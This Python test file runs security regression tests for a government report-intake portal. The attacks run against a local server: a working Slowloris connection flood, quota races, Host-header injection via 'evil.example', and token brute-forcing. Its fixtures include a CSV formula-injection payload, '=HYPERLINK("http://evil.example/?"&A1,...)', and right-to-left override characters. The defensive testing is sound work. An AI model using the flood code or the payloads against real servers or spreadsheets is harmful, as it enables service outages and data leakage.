"""The intake page's server under attack (issue 18, points 2, 3, 4, 6 and 7): each attack against a real
``portal serve`` (a subprocess on a free port, real sockets), its store on SQLite and, where the store is
involved, on PostgreSQL too.  Each test failed before its fix."""

from __future__ import annotations

import contextlib
import csv
import http.client
import io
import os
import re
import selectors
import socket
import stat
import subprocess
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import ROOT
from served import Served, serving

httpx = pytest.importorskip("httpx")
pytest.importorskip("uvicorn")
pytest.importorskip("sqlalchemy")

from spbe_excel.cli import cli  # noqa: E402

EXAMPLES = ROOT / "examples" / "triwulan-iii"
PERIOD = "Triwulan III 2019"
PBJ = EXAMPLES / "PBJ_Triwulan_III_2019.xlsx"
PUBLIC = "https://monev.example.go.id"  # portal init --url: where the links point
MB = 1024 * 1024
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOUNDARY = "b0undary"
# what the README says of slow clients
HEADER_TIMEOUT = 10.0  # s for a request head
BODY_TIMEOUT, BODY_RATE = 20.0, 1024  # s for a body to start, bytes a second after that
LOG_EVERY = 10.0  # s between two lines of counts
CONNECTIONS_AT_1024_FILES = 696


# ---- a real server: tests/served.py ----------------------------------------------------------------------


def make_store(folder: Path, *extra: str) -> Path:
    done = CliRunner().invoke(cli, ["portal", "init", str(folder), "--period", PERIOD, "--url", PUBLIC, *extra])
    assert done.exit_code == 0, done.output
    return folder


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def store(request, tmp_path) -> Path:
    extra = ["--db", request.getfixturevalue("fresh_postgres_url")] if request.param == "postgresql" else []
    return make_store(tmp_path / "portal", *extra)


@pytest.fixture()
def sqlite_store(tmp_path) -> Path:
    return make_store(tmp_path / "portal")


def links_csv(folder: Path) -> list[list[str]]:
    with open(folder / "tautan-opd.csv", encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def links(folder: Path) -> dict[str, str]:
    return {r[0]: r[2].rsplit("/o/", 1)[1] for r in links_csv(folder)[1:]}


def admin_token(folder: Path) -> str:
    return (folder / "token-admin.txt").read_text().strip()


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def multipart(data: bytes, name: str = "laporan.xlsx") -> tuple[bytes, str]:
    head = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode()
    return head + data + f"\r\n--{BOUNDARY}--\r\n".encode(), f"multipart/form-data; boundary={BOUNDARY}"


def upload(url: str, token: str, data: bytes, name: str = "PBJ.xlsx", **kwargs) -> httpx.Response:
    return httpx.post(url + "/api/v1/submissions", headers=bearer(token), timeout=30,
                      files={"file": (name, data, "application/octet-stream")}, **kwargs)


def log_in(http: httpx.Client, token: str) -> str:
    """Log in through the form; the session's CSRF token."""
    login_csrf = re.search(r'name="csrf" value="([^"]+)"', http.get("/admin").text)[1]
    r = http.post("/admin/login", data={"csrf": login_csrf, "token": token})
    assert r.status_code == 303 and r.headers["location"] == "/admin", r.text
    return re.search(r'name="csrf" value="([^"]+)"', http.get("/admin").text)[1]


def audit(url: str, folder: Path) -> list[dict]:
    r = httpx.get(url + "/admin/audit.csv", headers=bearer(admin_token(folder)), timeout=30)
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


# ---- 2. slow clients -------------------------------------------------------------------------------------------
SLOW_HEAD = (b"POST /api/v1/submissions HTTP/1.1\r\nHost: portal\r\n", b"X-Slow: 1\r\n")
SLOW_BODY = (b"POST /admin/login HTTP/1.1\r\nHost: portal\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             b"Content-Length: 1000000\r\n\r\ntoken=", b"x" * 1100)


class Slowloris:
    """``count`` connections from ``source`` that send ``what[0]`` and then ``what[1]`` once a ``every`` seconds:
    a request head a line at a time (:data:`SLOW_HEAD`) or a body at a little over 1 KB a second
    (:data:`SLOW_BODY`), never ending it; each opened again as soon as the server closes it.  Stops when told,
    after ``limit`` seconds at the latest."""

    def __init__(self, port: int, count: int, source: str, what: tuple[bytes, bytes] = SLOW_HEAD,
                 every: float = 1.0, limit: float = 90.0):
        self.port, self.count, self.source, self.what, self.every, self.limit = port, count, source, what, every, limit
        self.stop = threading.Event()
        self.opened = self.closed_by_server = 0
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _open(self, sel: selectors.BaseSelector) -> None:
        s = socket.socket()
        s.setblocking(False)
        s.bind((self.source, 0))
        s.connect_ex(("127.0.0.1", self.port))
        sel.register(s, selectors.EVENT_WRITE, False)
        self.opened += 1

    def _event(self, sel: selectors.BaseSelector, key: selectors.SelectorKey) -> None:
        s = key.fileobj
        assert isinstance(s, socket.socket)
        try:
            if not key.data:  # connected: the first line of a head that never ends
                s.send(self.what[0])
                sel.modify(s, selectors.EVENT_READ, True)
                return
            if s.recv(4096):
                return
        except OSError:
            pass
        sel.unregister(s)
        s.close()
        self.closed_by_server += 1
        self._open(sel)

    def _run(self) -> None:
        sel = selectors.DefaultSelector()
        end = time.monotonic() + self.limit
        for _ in range(self.count):
            self._open(sel)
        last = time.monotonic()
        while not self.stop.is_set() and time.monotonic() < end:
            for key, _ in sel.select(0.1):
                self._event(sel, key)
            if time.monotonic() - last > self.every:  # one more header line each
                last = time.monotonic()
                for key in list(sel.get_map().values()):
                    with contextlib.suppress(OSError):
                        if key.data:
                            key.fileobj.send(self.what[1])  # type: ignore[union-attr]
        for key in list(sel.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        sel.close()

    def __enter__(self) -> Slowloris:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop.set()
        self.thread.join(30)


def stalled(port: int, data: bytes) -> socket.socket:
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(data)
    return s


def closed_after(s: socket.socket, since: float, timeout: float) -> float:
    """Seconds from ``since`` until the server closed ``s`` (what it answers is read and dropped)."""
    s.settimeout(timeout)
    with contextlib.suppress(OSError):
        while s.recv(65536):
            pass
    s.close()
    return time.monotonic() - since


def test_the_connections_a_server_holds_depend_on_the_files_it_may_open():
    from spbe_excel.portal.connections import Guard

    assert Guard(open_files=1024).cap == CONNECTIONS_AT_1024_FILES
    assert Guard(open_files=65536).cap == 1000


def test_slow_clients_neither_exhaust_the_server_nor_keep_an_upload_from_its_findings(sqlite_store, tmp_path):
    """Exploited: 1,100 connections sending request heads a line at a time to a server that may open 1,024 files
    made normal requests time out, and asyncio logged 1.67 million lines of "Too many open files" (675 MB) in
    12 s.  Now the server holds at most half its files in connections, sheds the attacker's own connections
    waiting for a head, closes heads and bodies that take too long, and logs counts."""
    token = links(sqlite_store)["PBJ"]
    data = PBJ.read_bytes()
    with serving(sqlite_store, tmp_path / "serve.log", open_files=1024) as server:
        api_head = (f"POST /api/v1/submissions HTTP/1.1\r\nHost: portal\r\nAuthorization: Bearer {token}\r\n"
                    f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: 100000\r\n\r\n")
        assert upload(server.url, token, data, "PBJ-sebelum.xlsx").status_code == 201  # a server that has worked
        opened = time.monotonic()
        head = stalled(server.port, b"GET / HTTP/1.1\r\nHost: portal\r\n")  # a head that never ends
        body = stalled(server.port, api_head.encode() + multipart(b"-" * 2000)[0][:1000])  # stops after 1,000 bytes
        took = []
        with Slowloris(server.port, 1100, source="127.0.0.2") as attack:
            while attack.opened < 1100:
                time.sleep(0.05)
            time.sleep(1.0)
            for i in range(3):
                start = time.monotonic()
                r = upload(server.url, token, data, f"PBJ-{i}.xlsx")
                took.append(time.monotonic() - start)
                assert r.status_code == 201 and r.json()["state"] == "accepted", r.text
            shed = attack.closed_by_server
        head_closed = closed_after(head, opened, 30)
        body_closed = closed_after(body, opened, 40)
        assert httpx.get(server.url + "/", timeout=5).status_code == 200
        for _ in range(100):  # malformed requests: uvicorn logs a warning for each
            closed_after(stalled(server.port, b"NOT HTTP AT ALL\r\n\r\n"), time.monotonic(), 10)
        time.sleep(LOG_EVERY + 1)  # the counts of the last ten seconds are written
        log = server.text().splitlines()
    print(f"\nuploads during the attack: {', '.join(f'{t:.2f}' for t in took)} s; {shed} attacking connections "
          f"shed; head closed after {head_closed:.1f} s, body after {body_closed:.1f} s; {len(log)} log lines")
    assert max(took) < 2.0, took
    assert shed >= 1100 - CONNECTIONS_AT_1024_FILES  # the attacker's own connections made room
    assert HEADER_TIMEOUT - 0.5 <= head_closed <= HEADER_TIMEOUT + 3
    assert BODY_TIMEOUT - 0.5 <= body_closed <= BODY_TIMEOUT + 1000 / BODY_RATE + 3
    assert not [line for line in log if "Too many open files" in line or "Traceback" in line], log[:20]
    assert len(log) < 30, log
    assert len([line for line in log if "Invalid HTTP request received" in line]) <= 5, log
    assert any(f"shed at the limit of {CONNECTIONS_AT_1024_FILES} open connections" in line for line in log), log
    assert any("request heads not sent within 10 s" in line for line in log), log


def test_slow_bodies_do_not_keep_an_upload_from_its_findings(sqlite_store, tmp_path):
    """The same with 1,100 connections that send a body at a little over 1 KB a second (fast enough not to be
    cut): the connections of the address holding the most are shed, bodies included."""
    token = links(sqlite_store)["PBJ"]
    data = PBJ.read_bytes()
    with serving(sqlite_store, tmp_path / "serve.log", open_files=1024) as server:
        assert upload(server.url, token, data, "PBJ-sebelum.xlsx").status_code == 201
        took = []
        with Slowloris(server.port, 1100, source="127.0.0.3", what=SLOW_BODY) as attack:
            while attack.opened < 1100:
                time.sleep(0.05)
            time.sleep(1.0)
            for i in range(3):
                start = time.monotonic()
                r = upload(server.url, token, data, f"PBJ-{i}.xlsx")
                took.append(time.monotonic() - start)
                assert r.status_code == 201 and r.json()["state"] == "accepted", r.text
            shed = attack.closed_by_server
        log = server.text()
    print(f"\nuploads during the attack: {', '.join(f'{t:.2f}' for t in took)} s; {shed} shed")
    assert max(took) < 2.0, took
    assert shed >= 1100 - CONNECTIONS_AT_1024_FILES
    assert "Too many open files" not in log and "Traceback" not in log


def test_the_bounds_on_connections_are_set_from_the_command_line(sqlite_store, tmp_path):
    """An office tunes the bounds to its network: ``--header-timeout``, ``--body-timeout`` and
    ``--max-connections`` hold as given (a head closed after 2 s, a body after 3 s, 16 connections open)."""
    token = links(sqlite_store)["PBJ"]
    with serving(sqlite_store, tmp_path / "serve.log", "--header-timeout", "2", "--body-timeout", "3",
                 "--max-connections", "16") as server:
        opened = time.monotonic()
        head = stalled(server.port, b"GET / HTTP/1.1\r\nHost: portal\r\n")
        body = stalled(server.port, (f"POST /api/v1/submissions HTTP/1.1\r\nHost: portal\r\nAuthorization: Bearer "
                                     f"{token}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                                     f"Content-Length: 100000\r\n\r\n").encode())  # a body that never starts
        head_closed = closed_after(head, opened, 15)
        body_closed = closed_after(body, opened, 15)
        with Slowloris(server.port, 40, source="127.0.0.4") as attack:
            while attack.opened < 40:
                time.sleep(0.05)
            time.sleep(1.0)
            r = upload(server.url, token, PBJ.read_bytes())
            shed = attack.closed_by_server
        time.sleep(LOG_EVERY + 1)
        log = server.text()
    assert r.status_code == 201, r.text
    assert 1.5 <= head_closed <= 2 + 1.5, head_closed
    assert 2.5 <= body_closed <= 3 + 1.5, body_closed
    assert shed >= 40 - 16
    assert "request heads not sent within 2 s" in log and "bodies slower than" in log
    assert "shed at the limit of 16 open connections" in log, log


# ---- 3. early replies ------------------------------------------------------------------------------------------
def urllib_post(url: str, body: bytes, headers: dict[str, str]) -> tuple[int | str, str]:
    """POST as Python's urllib does (the whole body written before the answer is read): (status, text), or
    the name of the error when no answer came."""
    request = urllib.request.Request(url, data=body, method="POST", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()
    except (urllib.error.URLError, OSError) as exc:
        return type(getattr(exc, "reason", exc)).__name__, str(exc)


def test_a_refusal_sent_before_the_body_reaches_a_client_that_writes_the_whole_body_first(sqlite_store, tmp_path):
    """Exploited: a 25 MB upload was answered 413 and the connection closed without reading the body; urllib
    (which writes the whole body before it reads) got "Connection reset by peer", not the 413.  The same for
    a wrong token (401, 403) and a full quota."""
    tokens = links(sqlite_store)
    big, kind = multipart(os.urandom(25 * MB))
    small, _ = multipart(os.urandom(5 * MB))
    api = {"Content-Type": kind}
    with serving(sqlite_store, tmp_path / "serve.log", "--quota-mb", "1") as server:
        assert upload(server.url, tokens["HUKUM"], os.urandom(MB + 1)).status_code == 201  # HUKUM's quota is used
        got = {
            "too large": urllib_post(server.url + "/api/v1/submissions", big, {**api, **bearer(tokens["PBJ"])}),
            "wrong token": urllib_post(server.url + "/api/v1/submissions", small, {**api, **bearer("x" * 32)}),
            "wrong link": urllib_post(server.url + "/o/" + "y" * 32 + "/kirim", small, api),
            "quota": urllib_post(server.url + "/api/v1/submissions", small, {**api, **bearer(tokens["HUKUM"])}),
        }
        huge, _ = multipart(bytes(100 * MB))  # beyond what is read after a refusal: cut
        got["huge"] = urllib_post(server.url + "/api/v1/submissions", huge, {**api, **bearer(tokens["PBJ"])})
        assert upload(server.url, tokens["PBJ"], PBJ.read_bytes()).status_code == 201
    assert got["huge"][0] in ("ConnectionResetError", "BrokenPipeError"), got["huge"]
    assert got["too large"][0] == 413 and "lebih besar dari 20 MB" in got["too large"][1], got["too large"]
    assert got["wrong token"][0] == 401 and "Token tidak berlaku" in got["wrong token"][1], got["wrong token"]
    assert got["wrong link"][0] == 403 and "Tautan ini tidak berlaku" in got["wrong link"][1], got["wrong link"]
    assert got["quota"][0] == 413 and "kiriman baru tidak diterima" in got["quota"][1], got["quota"]


@contextlib.contextmanager
def database_away(url: str):
    """The PostgreSQL database of ``url`` refuses connections, and those open are ended, while the block runs
    (as while its server restarts)."""
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url
    from sqlalchemy.pool import NullPool

    name = make_url(url).database
    owner = create_engine(make_url(url).set(database="postgres"), poolclass=NullPool, isolation_level="AUTOCOMMIT")
    try:
        with owner.connect() as c:
            c.execute(text(f'alter database "{name}" allow_connections false'))
            c.execute(text("select pg_terminate_backend(pid) from pg_stat_activity where datname = :name"),
                      {"name": name})
        yield
    finally:
        with owner.connect() as c:
            c.execute(text(f'alter database "{name}" allow_connections true'))
        owner.dispose()


@pytest.mark.postgres
def test_a_server_error_while_the_database_is_away_reaches_a_client_that_writes_the_whole_body_first(
        fresh_postgres_url, tmp_path):
    """Exploited: uploads by urllib while PostgreSQL restarted were answered 500 before their body was read,
    and 28 of 56 clients got a connection reset instead.  Each gets the 500 and its message now."""
    folder = make_store(tmp_path / "portal", "--db", fresh_postgres_url)
    token = links(folder)["PBJ"]
    body, kind = multipart(os.urandom(5 * MB))
    with serving(folder, tmp_path / "serve.log") as server:
        with database_away(fresh_postgres_url):
            got = [urllib_post(server.url + "/api/v1/submissions", body, {"Content-Type": kind, **bearer(token)})
                   for _ in range(6)]
        assert upload(server.url, token, PBJ.read_bytes()).status_code == 201  # back once the database is
        log = server.text()
    assert [status for status, _ in got] == [500] * 6, got
    assert all("Terjadi kesalahan di server" in text for _, text in got), got
    assert token not in log


# ---- 4. one server per store -----------------------------------------------------------------------------------
def replace_links(url: str, admin: str, codes: list[str], errors: list[str]) -> None:
    with httpx.Client(base_url=url, timeout=30) as http:
        csrf = log_in(http, admin)
        for code in codes:
            r = http.post(f"/admin/tautan/{code}", data={"csrf": csrf})
            if r.status_code != 303:
                errors.append(f"{code}: {r.status_code}")


def test_a_second_server_on_the_same_store_is_refused_and_the_links_file_keeps_to_the_database(store, tmp_path):
    """Exploited: a second ``portal serve`` on the same store started without complaint (rate limits doubled),
    and two link replacements at once left a link in tautan-opd.csv that the database no longer knew."""
    admin = admin_token(store)
    codes = sorted(links(store))
    first = Served(store, tmp_path / "first.log")
    second = Served(store, tmp_path / "second.log")
    try:
        first.start()
        proc = second.launch()
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(15)
        running = [first]
        if proc.poll() is None:  # it serves: the replacements go through both, as two offices' browsers would
            running.append(second)
        errors: list[str] = []
        work = [threading.Thread(target=replace_links, args=(server.url, admin, codes[i::2] * 4, errors))
                for server in running for i in range(2)]
        for th in work:
            th.start()
        for th in work:
            th.join(120)
        with httpx.Client(base_url=first.url, timeout=30) as http:
            opens = {code: http.get(f"/o/{token}").status_code for code, token in links(store).items()}
    finally:
        first.stop()
        second.stop()
    assert proc.returncode == 2, second.text()
    assert f"{store} sudah dilayani oleh proses lain (PID {first.proc.pid})" in second.text()
    assert "Traceback" not in second.text()
    assert errors == []
    assert opens == dict.fromkeys(codes, 200)  # every link in the file opens its OPD's page
    assert not list(store.glob(".tautan-opd.csv.*"))


# ---- 6. leftovers and limits -----------------------------------------------------------------------------------
def upload_cut(url: str, token: str, data: bytes, name: str) -> None:
    """An upload that the server's end may cut."""
    with contextlib.suppress(httpx.HTTPError):
        upload(url, token, data, name)


def test_temporary_files_of_killed_or_failed_uploads_do_not_stay(store, tmp_path):
    """Exploited: the temporary files of uploads cut by a crash stayed in blobs/tmp for ever (110 after three
    kills), outside the quota.  The server clears them when it starts (it alone holds the store), and an
    upload that fails leaves none."""
    tokens = links(store)
    tmp = store / "blobs" / "tmp"
    data = os.urandom(8 * MB)  # copied into blobs/tmp (while hashed, then on disk) for a while before it is read
    server = Served(store, tmp_path / "serve.log")
    try:
        left = 0
        for _ in range(3):  # a kill that comes when the uploads were just read leaves nothing to clear: again
            server.start()
            sending = [threading.Thread(target=upload_cut, args=(server.url, token, data, f"kiriman-{k}.xlsx"))
                       for k, token in enumerate(list(tokens.values()) * 3)]
            for th in sending:
                th.start()
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline and not (list(tmp.glob("*")) if tmp.is_dir() else []):
                time.sleep(0.001)
            server.kill()  # an upload being kept
            left = len(list(tmp.glob("*")))
            for th in sending:
                th.join(30)
            if left:
                break
        server.start()
        after_start = len(list(tmp.glob("*")))

        # an upload cut in the middle of its body, and a refused one, leave nothing either
        cut = stalled(server.port, (f"POST /api/v1/submissions HTTP/1.1\r\nHost: portal\r\n"
                                    f"Authorization: Bearer {tokens['PBJ']}\r\nContent-Type: multipart/form-data; "
                                    f"boundary={BOUNDARY}\r\nContent-Length: {2 * MB}\r\n\r\n").encode()
                      + multipart(os.urandom(MB))[0][:MB])
        cut.close()
        empty = upload(server.url, tokens["PBJ"], b"")
        time.sleep(0.5)
        after_failures = sorted(p.name for p in tmp.glob("*"))
    finally:
        server.stop()
    assert left >= 1  # what a kill leaves
    assert after_start == 0
    assert empty.status_code == 400 and after_failures == []


def send_held(port: int, token: str, data: bytes, ready: threading.Barrier, out: list) -> None:
    """An upload whose head and first bytes go at once, the rest once every client has sent as much."""
    body, kind = multipart(data)
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        conn.putrequest("POST", "/api/v1/submissions")
        for name, value in {**bearer(token), "Content-Type": kind, "Content-Length": str(len(body))}.items():
            conn.putheader(name, value)
        conn.endheaders()
        conn.send(body[:65536])
        ready.wait(30)
        time.sleep(0.3)  # every head has been read by the server by now
        conn.send(body[65536:])
        r = conn.getresponse()
        out.append((r.status, r.read().decode()))
    except OSError as exc:
        out.append((type(exc).__name__, str(exc)))
    finally:
        conn.close()


def test_uploads_sent_at_once_cannot_all_pass_a_quota_that_one_of_them_fills(store, tmp_path):
    """Exploited: six uploads of 4 MB sent at once all passed a quota of 5 MB, each checked against what was
    stored before any of them was.  An upload now holds its size against the quota before its body is read:
    as many pass as would one after the other (two: the first leaves 1 MB, the second fills it)."""
    token = links(store)["PBJ"]
    out: list = []
    with serving(store, tmp_path / "serve.log", "--quota-mb", "5") as server:
        ready = threading.Barrier(6)
        clients = [threading.Thread(target=send_held, args=(server.port, token, os.urandom(4 * MB), ready, out))
                   for _ in range(6)]
        for th in clients:
            th.start()
        for th in clients:
            th.join(120)
        later = upload(server.url, token, os.urandom(MB))
    statuses = sorted(status for status, _ in out)
    assert statuses == [201, 201, 413, 413, 413, 413], out
    assert all("kiriman baru tidak diterima" in text for status, text in out if status == 413)
    assert later.status_code == 413


# ---- 7. secrets and headers ------------------------------------------------------------------------------------
def hostile_plan(path: Path) -> dict[str, str]:
    """A plan whose OPD sheet names its OPDs as a spreadsheet formula would start, or with a bidirectional
    control character; the names by code."""
    import openpyxl
    from actions_plan import write_master

    names = {"DKIS": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "HUKUM": "@SUM(1+1)",
             "BAPPEDA": "+62 361 222", "ORGANISASI": "-Bagian Organisasi", "BPKAD": "Badan \u202eKeuangan",
             "DUKCAPIL": "Dinas Kependudukan"}
    write_master(path)
    wb = openpyxl.load_workbook(path)
    ws = wb.create_sheet("OPD")
    ws.append(["Kode", "Nama Resmi", "Alias"])
    for code, name in names.items():
        ws.append([code, name, None])
        ws.cell(ws.max_row, 2).data_type = "s"
    wb.save(path)
    return names


def test_opd_names_from_the_plan_reach_the_links_file_as_text_and_pages_show_bidi_controls(tmp_path):
    """Exploited: an OPD named ``=HYPERLINK(...)`` or ``@SUM(...)`` in the plan reached tautan-opd.csv as it was
    (a formula once DKIS opens the file); a right-to-left override from a cell turned the text after it
    around on the pages."""
    names = hostile_plan(tmp_path / "rencana.xlsx")
    folder = make_store(tmp_path / "portal", "--master", str(tmp_path / "rencana.xlsx"))
    at_init = links_csv(folder)
    with serving(folder, tmp_path / "serve.log") as server, httpx.Client(base_url=server.url, timeout=30) as http:
        csrf = log_in(http, admin_token(folder))
        assert http.post("/admin/tautan/DKIS", data={"csrf": csrf}).status_code == 303
        downloaded = http.get("/admin/tautan-opd.csv").content.decode("utf-8-sig")
        page = http.get(f"/o/{links(folder)['BPKAD']}").text
        admin_page = http.get("/admin").text
    for rows in (at_init, links_csv(folder), list(csv.reader(io.StringIO(downloaded)))):
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], rows
        assert {r[0]: r[1] for r in rows[1:]} == {code: "'" + name if name.startswith(FORMULA_START) else name
                                                 for code, name in names.items()}
    for text in (page, admin_page):
        assert "\u202e" not in text and "Badan [U+202E]Keuangan" in text


def bidi_workbook(path: Path) -> Path:
    from factory import columns_of, fill, rows_of, template

    from spbe_excel.master import embedded_master

    def edit(_wb, ws):
        cols, rows = columns_of(ws), rows_of(ws)
        ws.cell(min(rows.values()), cols["status"]).value = "Selesai\u202eexe.txt"

    return fill(template(path.parent, embedded_master(), opd="PBJ"), path, edit=edit)


def test_addresses_headers_values_and_file_modes_give_nothing_away(sqlite_store, tmp_path):
    """Exploited: feedback_url and redirects were made of the request's Host header (``Host: evil.example``
    made the answer send the client there); every answer said ``server: uvicorn``; the database, its WAL and
    the feedback workbooks were readable by anyone on the server (0644)."""
    token = links(sqlite_store)["PBJ"]
    evil = {"Host": "evil.example"}
    with serving(sqlite_store, tmp_path / "serve.log") as server, httpx.Client(base_url=server.url, timeout=30) as http:
        api = http.post("/api/v1/submissions", headers={**bearer(token), **evil},
                        files={"file": ("PBJ.xlsx", PBJ.read_bytes(), "application/octet-stream")})
        form = http.post(f"/o/{token}/kirim", headers=evil,
                         files={"file": ("bidi.xlsx", bidi_workbook(tmp_path / "bidi.xlsx").read_bytes())})
        slash = http.get("/admin/", headers=evil)
        result = http.get(form.headers["location"])
        feedback = http.get(f"/api/v1/submissions/{api.json()['id']}/feedback.xlsx", headers=bearer(token))
        downloads = [http.get(f"/o/{token}/templat.xlsx"),
                     http.get("/api/v1/rekap.xlsx", headers=bearer(admin_token(sqlite_store)))]
        answers = [api, form, slash, result, feedback, http.get("/"), http.get("/o/x")]
        modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in [*sqlite_store.glob("portal.db*"),
                                                                   *(sqlite_store / "cache").rglob("*.xlsx")]}
    assert api.status_code == 201 and feedback.status_code == 200
    assert api.json()["feedback_url"] == f"{PUBLIC}/api/v1/submissions/{api.json()['id']}/feedback.xlsx"
    assert api.headers["location"] == api.json()["feedback_url"]
    assert form.status_code == 303 and form.headers["location"].startswith(f"/o/{token}/kiriman/")
    assert "evil.example" not in slash.headers.get("location", "") and slash.status_code == 404
    assert [r for r in answers if "server" in r.headers] == []
    assert result.status_code == 200 and "\u202e" not in result.text
    assert "Selesai[U+202E]exe.txt" in result.text
    assert [r.status_code for r in downloads] == [200, 200]
    assert {"portal.db", "portal.db-wal", "portal.db-shm", "1-id.xlsx"} <= set(modes) and len(modes) == 6, modes
    assert set(modes.values()) == {0o600}, modes


def test_a_server_error_on_an_opd_route_does_not_log_its_link(sqlite_store, tmp_path):
    """Exploited: a 500 on ``/o/<token>/...`` logged the path, the OPD's token with it (the README says no URL is
    logged)."""
    token = links(sqlite_store)["PBJ"]
    with serving(sqlite_store, tmp_path / "serve.log") as server:
        cache = sqlite_store / "cache"
        if cache.is_dir():
            import shutil

            shutil.rmtree(cache)
        cache.write_text("not a folder")  # the template cannot be made
        r = httpx.get(f"{server.url}/o/{token}/templat.xlsx", timeout=30)
        time.sleep(0.3)
        log = server.text()
    assert r.status_code == 500 and "Terjadi kesalahan di server" in r.text
    assert "GET /o/{token}/templat.xlsx failed" in log
    assert token not in log


def test_wrong_tokens_are_limited_and_audited_per_client_and_never_lock_out_the_right_one(sqlite_store, tmp_path):
    """Exploited: 300 wrong admin bearer tokens in 0.5 s were all answered 401 and none was recorded, wrong OPD
    tokens likewise, while the login limit (every attempt counted) refused the right admin token too.  Now
    wrong tokens are counted per client address: 10 a minute are refused as usual and recorded, the rest get
    429; the right token passes, and other clients are not held back."""
    tokens, admin = links(sqlite_store), admin_token(sqlite_store)

    def client(n: int, url: str) -> httpx.Client:
        return httpx.Client(base_url=url, timeout=30, transport=httpx.HTTPTransport(local_address=f"127.0.0.{n}"))

    with serving(sqlite_store, tmp_path / "serve.log") as server:
        with client(1, server.url) as one, client(2, server.url) as two, client(3, server.url) as three:
            wrong_admin = [one.get("/api/v1/status", headers=bearer(f"salah-{i}")).status_code for i in range(300)]
            right_admin = one.get("/api/v1/status", headers=bearer(admin)).status_code
            other_client = two.get("/api/v1/status", headers=bearer("salah")).status_code
            wrong_links = [two.get(f"/o/salah-{i}").status_code for i in range(30)]
            wrong_api = two.post("/api/v1/submissions", headers=bearer("salah"), files={"file": ("x.xlsx", b"x")})
            right_link = two.get(f"/o/{tokens['PBJ']}").status_code
            login_csrf = re.search(r'name="csrf" value="([^"]+)"', three.get("/admin").text)[1]
            logins = [three.post("/admin/login", data={"csrf": login_csrf, "token": f"salah-{i}"}).status_code
                      for i in range(15)]
            right_login = three.post("/admin/login", data={"csrf": login_csrf, "token": admin})
        rows = audit(server.url, sqlite_store)
    assert wrong_admin == [401] * 10 + [429] * 290
    assert right_admin == 200 and other_client == 401
    assert wrong_links == [403] * 9 + [429] * 21 and wrong_api.status_code == 429  # client 2 had one wrong already
    assert right_link == 200
    assert logins == [303] * 10 + [429] * 5
    assert right_login.status_code == 303 and right_login.headers["location"] == "/admin"
    by_client: dict[str, list[str]] = {}
    for row in rows:
        if row["actor"].startswith("client:"):
            by_client.setdefault(row["actor"], []).append(row["action"])
    assert by_client == {"client:127.0.0.1": ["token-failed"] * 10 + ["held-back"],
                         "client:127.0.0.2": ["token-failed"] * 10 + ["held-back"],
                         "client:127.0.0.3": ["login-failed"] * 10 + ["held-back"]}
